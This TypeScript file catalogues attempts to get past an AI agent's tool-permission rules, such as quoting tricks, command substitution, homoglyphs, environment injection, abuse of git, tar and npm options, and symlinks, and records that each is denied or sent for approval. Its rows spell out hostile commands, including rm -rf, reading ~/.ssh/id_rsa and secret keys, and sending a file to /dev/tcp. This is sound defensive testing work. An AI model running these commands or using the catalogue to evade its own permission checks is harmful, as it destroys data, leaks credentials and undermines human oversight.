/** Calls that try to get past the rules: the table of docs/security.md, row by row. */

export interface EscapeRow {
  readonly tried: string;
  readonly call: string;
  /** The tool, if it is not bash. `call` is then its path. */
  readonly tool?: string;
  readonly outcome: "asked about" | "denied" | "left out";
}

/** The rules under which the rows are tried. */
export const harmless = {
  allow: [
    "bash(git log *)",
    "bash(git status)",
    "bash(ls *)",
    "bash(cat *)",
    "bash(echo *)",
    "bash(grep *)",
    "bash(rg *)",
    "bash(find . *)",
    "bash(sort *)",
    "bash(test *)",
    "bash(tar tf *)",
    "bash(cd *)",
    "bash(awk *)",
    "bash(sed *)",
    "bash(npm test *)",
    "bash(printf *)",
    "bash(uniq *)",
    "bash(git *)",
    "bash(tar *)",
    "bash(npm *)",
    "bash(node *)",
    "bash(curl *)",
    "bash(wget *)",
    "bash(prlimit *)",
    "bash(python3.11 *)",
    "bash(cp *)",
    "bash(tree *)",
    "edit(src/**)",
  ],
  deny: ["*(secret/**)", "bash(rm *)"],
};

const cyrillicGit = "g\u0456t log";
const fullWidthGit = "\uff47it log";
const zeroWidthGit = "git\u200b log";

export const escapeRows: readonly EscapeRow[] = [
  { tried: "a quoted program", call: "'rm' -rf x", outcome: "denied" },
  { tried: "a program quoted in pieces", call: `r''"m" -rf x`, outcome: "denied" },
  { tried: "a backslash in the program", call: String.raw`r\m -rf x`, outcome: "asked about" },
  { tried: "command substitution", call: "git log $(rm -rf x)", outcome: "asked about" },
  { tried: "command substitution in quotes", call: 'echo "$(rm -rf x)"', outcome: "asked about" },
  { tried: "backticks", call: "echo `rm -rf x`", outcome: "asked about" },
  { tried: "an alias", call: "alias ls=rm; ls x", outcome: "asked about" },
  { tried: "a function", call: "ls() { rm x; }; ls", outcome: "asked about" },
  { tried: "`hash -p`", call: "hash -p /tmp/evil git; git status", outcome: "asked about" },
  { tried: "`env`", call: "env rm -rf x", outcome: "asked about" },
  { tried: "`env` with its folder", call: "/usr/bin/env rm -rf x", outcome: "asked about" },
  { tried: "`xargs`", call: "ls | xargs rm", outcome: "asked about" },
  { tried: "`command`, `builtin`, `exec`, `eval`", call: "command rm x", outcome: "asked about" },
  { tried: "`nohup`, `time`, `timeout`, `nice`", call: "nohup rm x", outcome: "asked about" },
  { tried: "`time`", call: "time rm x", outcome: "asked about" },
  { tried: "`sh -c`", call: "sh -c 'rm x'", outcome: "asked about" },
  { tried: "`busybox`", call: "busybox rm x", outcome: "asked about" },
  { tried: "a here-document", call: "cat <<E\n$(rm x)\nE", outcome: "asked about" },
  { tried: "a here-string", call: "cat <<< secret", outcome: "asked about" },
  { tried: "a line feed", call: "git status\nrm -rf x", outcome: "denied" },
  { tried: "a line feed with another program", call: "git status\nnc x", outcome: "asked about" },
  { tried: "a carriage return", call: "git status\rrm x", outcome: "asked about" },
  {
    tried: "a backslash before a line feed",
    call: "git sta\\\ntus; r\\\nm x",
    outcome: "asked about",
  },
  { tried: "a tab instead of a space", call: "rm\t-rf\tx", outcome: "denied" },
  { tried: "a no-break space", call: "git\u00a0log", outcome: "asked about" },
  { tried: "a Cyrillic letter in the program", call: cyrillicGit, outcome: "asked about" },
  { tried: "a quoted Cyrillic letter", call: "'g\u0456t' log", outcome: "asked about" },
  { tried: "a full-width letter", call: fullWidthGit, outcome: "asked about" },
  { tried: "a zero-width space", call: zeroWidthGit, outcome: "asked about" },
  { tried: "ANSI-C quoting", call: String.raw`$'\x72\x6d' x`, outcome: "asked about" },
  { tried: "a translated string", call: '$"rm" x', outcome: "asked about" },
  { tried: "brace expansion", call: "{rm,x}", outcome: "asked about" },
  { tried: "a glob as the program", call: "/bin/r? x", outcome: "asked about" },
  { tried: "a glob as an argument", call: "cat s*/key", outcome: "asked about" },
  { tried: "tilde expansion", call: "cat ~/.ssh/id_rsa", outcome: "asked about" },
  { tried: "process substitution", call: "cat <(rm x)", outcome: "asked about" },
  { tried: "a variable", call: "cat $HOME", outcome: "asked about" },
  {
    tried: "an assignment before the program",
    call: "LD_PRELOAD=x git log",
    outcome: "asked about",
  },
  { tried: "`GIT_SSH`", call: "GIT_SSH=x git log", outcome: "asked about" },
  { tried: "`export`", call: "export PATH=x; git status", outcome: "asked about" },
  { tried: "arithmetic", call: "echo $((a[$(rm x)]))", outcome: "asked about" },
  {
    tried: "an index that `test -v` evaluates",
    call: "test -v 'a[$(rm x)]'",
    outcome: "asked about",
  },
  { tried: "`let`", call: "let 'a[$(rm x)]=1'", outcome: "asked about" },
  { tried: "another folder first", call: "cd vendor && git status", outcome: "asked about" },
  { tried: "the absolute path of a denied program", call: "/bin/rm -rf x", outcome: "denied" },
  {
    tried: "a program of the project with a known name",
    call: "./git status",
    outcome: "asked about",
  },
  { tried: "`..` to a program", call: "../bin/ls x", outcome: "asked about" },
  { tried: "`git -c`", call: "git -c core.pager=x log", outcome: "asked about" },
  { tried: "`git --exec-path`", call: "git --exec-path=x log", outcome: "asked about" },
  { tried: "`git log --output`", call: "git log --output=.bashrc", outcome: "asked about" },
  { tried: "the same, abbreviated", call: "git log --outp=.bashrc", outcome: "asked about" },
  { tried: "`git log --ext-diff`", call: "git log -p --ext-diff", outcome: "asked about" },
  { tried: "`find -exec`", call: "find . -exec rm x", outcome: "asked about" },
  { tried: "`find -delete`", call: "find . -name x -delete", outcome: "asked about" },
  { tried: "`sort -o`", call: "sort a -o b", outcome: "asked about" },
  { tried: "`sort -o` in a group", call: "sort -uob a", outcome: "asked about" },
  { tried: "`sort --compress-program`", call: "sort --compress-prog=x a", outcome: "asked about" },
  { tried: "`sed -i`, `sed e`", call: "sed -i s/a/b/ x", outcome: "asked about" },
  { tried: "a script of `awk`", call: `awk 'BEGIN { system("rm x") }'`, outcome: "asked about" },
  { tried: "`rg --pre`", call: "rg --pre x y", outcome: "asked about" },
  { tried: "`tar --to-command`", call: "tar tf a.tar --to-command=x", outcome: "asked about" },
  { tried: "`npm --script-shell`", call: "npm test --script-shell=./x", outcome: "asked about" },
  {
    tried: "a shell variable that a builtin sets",
    call: "printf -v PATH .; ls",
    outcome: "asked about",
  },
  { tried: "the same by `read`", call: "read PATH; ls", outcome: "asked about" },
  {
    tried: "a descriptor before a redirection",
    call: "git status 3>/dev/null",
    outcome: "asked about",
  },
  {
    tried: "a second file of `uniq`, after a dash",
    call: "uniq - .bashrc",
    outcome: "asked about",
  },
  { tried: "the same, after two dashes", call: "uniq -- a -b", outcome: "asked about" },
  { tried: "`git clone -u`", call: "git clone -u ./x . y", outcome: "asked about" },
  { tried: "`git clone -c`", call: "git clone -qc core.hooksPath=. . y", outcome: "asked about" },
  { tried: "`git archive -o`", call: "git archive -o .bashrc HEAD", outcome: "asked about" },
  {
    tried: "a command of git that few know",
    call: "git fast-export --export-marks=.bashrc HEAD",
    outcome: "asked about",
  },
  { tried: "the same, which runs a program", call: "git remote-ext x ./x", outcome: "asked about" },
  { tried: "letters of `tar` without a dash", call: "tar xf a.tar", outcome: "asked about" },
  { tried: "the same, which run a program", call: "tar tfI a.tar ./x", outcome: "asked about" },
  {
    tried: "a file that `tar` writes",
    call: "tar tf a.tar --index-file=.bashrc",
    outcome: "asked about",
  },
  { tried: "an archive on another machine", call: "tar tf host:a.tar", outcome: "asked about" },
  { tried: "an abbreviated command of npm", call: "npm exe -- ./x", outcome: "asked about" },
  { tried: "an option before it", call: "npm --yes=true exe -- ./x", outcome: "asked about" },
  {
    tried: "an option of `node` with underscores",
    call: "node --env_file=x a.js",
    outcome: "asked about",
  },
  {
    tried: "an option of `node` that few know",
    call: "node --check --cpu-prof a.js",
    outcome: "asked about",
  },
  {
    tried: "the same after the value of another option",
    call: "node --conditions x --cpu-prof a.js",
    outcome: "asked about",
  },
  {
    tried: "a file that `curl` writes",
    call: "curl --etag-save .bashrc localhost",
    outcome: "asked about",
  },
  {
    tried: "a program that `wget` runs",
    call: "wget --use-askpass=./x localhost",
    outcome: "asked about",
  },
  { tried: "a program that runs another", call: "prlimit touch x", outcome: "asked about" },
  { tried: "an interpreter with its version", call: "python3.11 -c 1", outcome: "asked about" },
  {
    tried: "`tree -R`, which runs itself with `-o`",
    call: "tree -RL 1 -H .",
    outcome: "asked about",
  },
  { tried: "a hook of git", call: "cp src/a.ts .git/hooks/pre-commit", outcome: "asked about" },
  { tried: "`coproc`", call: "coproc rm x", outcome: "asked about" },
  { tried: "the background", call: "git status & rm x", outcome: "asked about" },
  { tried: "a redirection to a file", call: "git log > .bashrc", outcome: "asked about" },
  { tried: "the same without spaces", call: "git log>>.bashrc", outcome: "asked about" },
  {
    tried: "a redirection to a network address",
    call: "cat a >/dev/tcp/host/80",
    outcome: "asked about",
  },
  {
    tried: "a file whose name begins as `/dev/null`",
    call: "cat a >/dev/null/../x",
    outcome: "asked about",
  },
  { tried: "a comment", call: "git status # harmless", outcome: "asked about" },
  { tried: "history expansion", call: "!rm", outcome: "asked about" },
  { tried: "history expansion in quotes", call: 'echo "!rm"', outcome: "asked about" },
  { tried: "a keyword", call: "if rm x; then ls; fi", outcome: "asked about" },
  { tried: "a subshell", call: "(rm x)", outcome: "asked about" },
  { tried: "an empty command", call: "git status;", outcome: "asked about" },
  { tried: "a denied folder as an argument", call: "cat secret/key", outcome: "denied" },
  { tried: "the same in capitals", call: "cat SECRET/Key", outcome: "denied" },
  { tried: "the same through `..`", call: "cat src/../secret/key", outcome: "asked about" },
  { tried: "the same through a link", call: "cat link/key", outcome: "denied" },
  { tried: "a program that walks over it", call: "grep -r key .", outcome: "asked about" },
  { tried: "the same without a path", call: "grep -rn key", outcome: "asked about" },
  { tried: "what git stored of it", call: "git log -p", outcome: "asked about" },
  {
    tried: "a denied file glued to an option",
    call: "grep -fsecret/key src/a.ts",
    outcome: "denied",
  },
  { tried: "the same after an at sign", call: "curl -Fx=@secret/key localhost", outcome: "denied" },
  { tried: "reading it", tool: "read", call: "secret/key", outcome: "denied" },
  { tried: "reading it in capitals", tool: "read", call: "Secret/KEY", outcome: "denied" },
  { tried: "reading it through a link", tool: "read", call: "link/key", outcome: "denied" },
  {
    tried: "reading it through `..`",
    tool: "read",
    call: "src/../secret/key",
    outcome: "asked about",
  },
  {
    tried: "reading it by its absolute path",
    tool: "read",
    call: "/ROOT/secret/key",
    outcome: "denied",
  },
  {
    tried: "reading it with an invisible character, which some systems ignore",
    tool: "read",
    call: "sec\u200bret/key",
    outcome: "denied",
  },
  {
    tried: "with another small letter of the same capital",
    tool: "read",
    call: "\u017fecret/key",
    outcome: "denied",
  },
  {
    tried: "with a dot at the end of a name",
    tool: "read",
    call: "secret./key",
    outcome: "denied",
  },
  { tried: "searching it", tool: "grep", call: "secret", outcome: "denied" },
  { tried: "searching around it", tool: "grep", call: ".", outcome: "left out" },
  { tried: "listing around it", tool: "glob", call: ".", outcome: "left out" },
  {
    tried: "changing it through a link in an allowed folder",
    tool: "edit",
    call: "src/out/key",
    outcome: "denied",
  },
  {
    tried: "changing a file outside through such a link",
    tool: "edit",
    call: "src/away/x",
    outcome: "asked about",
  },
];

const escapes: Readonly<Record<string, string>> = { "\n": "\\n", "\r": "\\r", "\t": "\\t" };

/** Formats a call for a cell of a Markdown table. */
export function shownCall({ tool, call }: EscapeRow): string {
  const escaped = call
    .replaceAll(
      /[\n\r\t\u0080-\uffff]/g,
      (char) => escapes[char] ?? `\\u${char.charCodeAt(0).toString(16).padStart(4, "0")}`,
    )
    .replaceAll("|", "\\|");
  const text = tool === undefined ? escaped : `${tool} ${escaped.replace("/ROOT", "/...")}`;
  return text.includes("`") ? `\`\` ${text} \`\`` : `\`${text}\``;
}
